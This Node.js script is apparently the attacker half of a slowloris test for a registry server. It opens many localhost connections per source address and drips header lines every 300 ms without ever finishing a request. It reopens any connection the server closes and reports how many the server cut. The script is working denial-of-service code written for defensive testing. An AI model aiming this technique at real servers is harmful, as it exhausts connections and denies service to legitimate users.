// The slowloris of slowloris.test.ts, in a process of its own so that its thousands of sockets do
// not slow the test's legitimate client down (which would measure the attacker, not the registry).
//   node slowloris-attacker.mjs PORT ADDRESSES(comma-separated) PER_ADDRESS DURATION_MS
// Keeps PER_ADDRESS connections per source address: each sends a request line, then a header line
// every 300 ms, never ending its headers, and keeps its side open when the server sends FIN
// (allowHalfOpen). A connection the server closes is opened again 500 ms later, until DURATION_MS.
// Then it stops reopening, waits up to 5 s for the server to close the last ones by itself, and
// prints one JSON line: opened, closed by the server (by reset or by FIN), the longest life of
// one, and how many were never closed by the server.
import { connect } from 'node:net';

const [port, addresses, perAddress, durationMs] = [Number(process.argv[2]), process.argv[3].split(','), Number(process.argv[4]), Number(process.argv[5])];
const sockets = new Set();
const result = { opened: 0, failed: 0, closedByServer: 0, byReset: 0, byFin: 0, longestLifeMs: 0, uncut: 0 };
let attacking = true;

function open(address) {
  const openedAt = Date.now();
  const s = connect({ port, host: '127.0.0.1', localAddress: address, allowHalfOpen: true });
  result.opened++;
  sockets.add(s);
  let connected = false;
  let done = false;
  const serverClosed = (how) => {
    if (done) return;
    done = true;
    if (connected || how === 'reset') {
      result.closedByServer++;
      if (how === 'reset') result.byReset++;
      else result.byFin++;
      result.longestLifeMs = Math.max(result.longestLifeMs, Date.now() - openedAt);
    } else result.failed++; // never connected, and not reset by the server
    sockets.delete(s);
    s.destroy();
    if (attacking) setTimeout(() => attacking && open(address), 500);
  };
  s.on('connect', () => {
    connected = true;
    s.write('POST /v1/peers HTTP/1.1\r\nHost: registry\r\n');
  });
  s.on('end', () => serverClosed('fin'));
  s.on('error', (err) => serverClosed(err.code === 'ECONNRESET' ? 'reset' : 'error'));
  s.on('close', () => serverClosed('reset'));
}

const ticker = setInterval(() => {
  for (const s of sockets) if (!s.destroyed && s.writable && !s.connecting) s.write('X-Pad: y\r\n');
}, 300);
for (const a of addresses) for (let i = 0; i < perAddress; i++) open(a);
setTimeout(() => {
  attacking = false;
  clearInterval(ticker);
  const deadline = Date.now() + 5000;
  const wait = setInterval(() => {
    if (sockets.size > 0 && Date.now() < deadline) return;
    clearInterval(wait);
    result.uncut = sockets.size;
    for (const s of sockets) s.destroy();
    process.stdout.write(`${JSON.stringify(result)}\n`);
  }, 50);
}, durationMs);
